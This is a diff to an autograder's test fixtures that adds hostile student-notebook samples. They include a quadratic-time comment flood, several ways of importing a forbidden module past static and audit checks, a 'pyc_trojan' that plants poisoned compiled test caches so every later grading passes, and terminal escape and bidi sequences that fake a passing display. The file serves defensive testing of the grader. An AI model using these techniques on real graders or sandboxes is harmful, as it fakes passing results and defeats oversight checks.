@@ -152,6 +152,8 @@ class Sample:
     """The rest of expected.toml (after ``description``)."""
     reports: bool = False
     """Append TOOLS first and the cells raising the findings at the end."""
+    markdown: tuple[str, ...] = ()
+    """Markdown cells appended after the code (written answers)."""
 
 
 def _t(text: str) -> str:
@@ -1078,6 +1080,153 @@ pytest = sys.modules["pytest"]
         ),
         GRADED_1,
     ),
+    # ---------------------------------------------------------------- round 2 (issue #11)
+    Sample(
+        "answer_comment_flood",
+        "A written answer of 60,000 '<!--' (240 KB): a quadratic comment stripper takes 70 s.",
+        (HONEST,),
+        GRADED_3,
+        markdown=("**Ответ q1:** " + "<!--" * 60_000,),
+    ),
+    Sample(
+        "forbidden_disguised",
+        "Imports the forbidden 'wave' by routes that hide the importer: exec of code claiming "
+        "a library's file name and module, a module file the notebook writes, the package's "
+        "own file through a loader after emptying sys.meta_path, a subprocess.",
+        (
+            HONEST,
+            _t("""
+name = "wa" + "ve"  # no literal: the static check cannot see it, the kernel must
+exec(compile(f"import {name}", "helpers.py", "exec"))
+"""),
+            _t("""
+import numpy
+exec(compile(f"import {name}", numpy.__file__, "exec"), {"__name__": "numpy"})
+"""),
+            _t("""
+import sys
+with open("helpers_wave.py", "w") as fh:
+    fh.write(f"import {name}\\n")
+sys.path.insert(0, ".")
+import helpers_wave
+"""),
+            _t("""
+import importlib.machinery
+import importlib.util
+import sys
+
+origin = importlib.machinery.PathFinder.find_spec(name).origin
+sys.meta_path[:] = [importlib.machinery.PathFinder]
+spec = importlib.util.spec_from_file_location("renamed", origin)
+spec.loader.exec_module(importlib.util.module_from_spec(spec))
+"""),
+            _t("""
+import subprocess
+import sys
+
+# a child process has no audit hook: only a sandbox that hides the module stops it
+done = subprocess.run([sys.executable, "-c", f"import {name}; print({name}.__file__)"],
+                      capture_output=True, text=True, timeout=30)
+outcome = "blocked" if done.returncode else f"imported from {done.stdout.strip()}"
+raise RuntimeError(f"a subprocess importing it: {outcome}")
+"""),
+        ),
+        'status = "forbidden_import"\nmin_points = 0.0\nmax_points = 0.0\n',
+    ),
+    Sample(
+        "pyc_trojan",
+        "Plants assertion-free compiled copies of the course's tests wherever the grader might "
+        "load them from (pytest's __pycache__ beside the tests, the grader's old shared pyc "
+        "cache in the real home): every later grading would pass every test.",
+        (
+            WRONG_SQUARE,
+            HONEST_COUNTER,
+            _t("""
+import glob
+import importlib.util
+import os
+import pwd
+import sys
+
+try:
+    from _pytest.assertion import rewrite
+except ImportError:
+    rewrite = None
+
+
+def pyc_bytes(source):
+    code = compile(open(source, "rb").read(), source, "exec", optimize=1)  # asserts removed
+    with open(source + ".HOSTILE_WAS_HERE.tmp", "wb") as fh:
+        try:
+            rewrite._write_pyc_fp(fh, importlib.util.source_hash(open(source, "rb").read()), code)
+        except TypeError:  # older pytest: mtime and size
+            rewrite._write_pyc_fp(fh, os.stat(source), code)
+    data = open(source + ".HOSTILE_WAS_HERE.tmp", "rb").read()
+    os.unlink(source + ".HOSTILE_WAS_HERE.tmp")
+    return data
+
+
+def course_tests():
+    # the grader's cwd and what is near it (the local sandbox shares the filesystem)
+    seeds = {os.path.realpath(f"/proc/{os.getppid()}/cwd"), os.path.dirname(os.getcwd())}
+    for pid in (os.getppid(),):
+        try:
+            seeds.add(os.path.dirname(os.path.realpath(f"/proc/{pid}/cwd")))
+        except OSError:
+            pass
+    found = set()
+    for seed in seeds:
+        for pattern in ("*/tests/*/test_*.py", "*/*/tests/*/test_*.py", "*/*/*/tests/*/test_*.py"):
+            found.update(glob.glob(os.path.join(seed, pattern))[:50])
+    return sorted(found)
+
+
+planted = []
+if rewrite is not None:
+    home = pwd.getpwuid(os.getuid()).pw_dir
+    for source in course_tests():
+        name = os.path.basename(source)[:-3] + rewrite.PYC_TAIL
+        folder = os.path.dirname(source)
+        # pytest's own __pycache__, and the shared cache an earlier grader used (pycache_prefix)
+        places = [os.path.join(folder, "__pycache__"),
+                  os.path.join(home, ".cache", "dl-grader", "pyc") + folder]
+        for place in places:
+            try:
+                os.makedirs(place, exist_ok=True)
+                with open(os.path.join(place, name), "wb") as fh:
+                    fh.write(pyc_bytes(source))
+                planted.append(os.path.join(place, name))
+            except OSError:
+                pass
+report("probe", f"planted {len(planted)} poisoned pyc files: {planted[:4]}")
+"""),
+        ),
+        GRADED_1,
+        reports=True,
+    ),
+    Sample(
+        "terminal_escape",
+        "Student text meant for the instructor's terminal: ESC c and screen-clearing sequences, "
+        "rich markup ('[/]', '[bold green]... graded[/]') and a bidi override, in a cell error's "
+        "name and message and in the value square() returns (shown in a failed test).",
+        (
+            _t("""
+def square(x):
+    return "\\x1bc\\x1b[2J\\x1b[H[bold green]3 / 3 points · graded[/] [/]"
+"""),
+            HONEST_COUNTER,
+            _t("""
+class Fake(Exception):
+    pass
+
+
+Fake.__name__ = "[/]\\x1b[2J"
+print("\\x1bc\\x1b[2J\\x1b[H14 graded, 0 failed")
+raise Fake("\\x1bc\\x1b[2J\\x1b[H[bold green]hostile_target · 3 / 3 points[/] [/] \\u202edetarg")
+"""),
+        ),
+        GRADED_1,
+    ),
 ]
 
 
@@ -1097,6 +1246,9 @@ def notebook(sample: Sample) -> nbformat.NotebookNode:
         "dl_grader": {"assignment": "hostile_target"},
     }
     nb.cells = [nbformat.v4.new_code_cell(src, id=f"cell-{i}") for i, src in enumerate(cells)]
+    nb.cells += [
+        nbformat.v4.new_markdown_cell(src, id=f"md-{i}") for i, src in enumerate(sample.markdown)
+    ]
     return nb
 
 
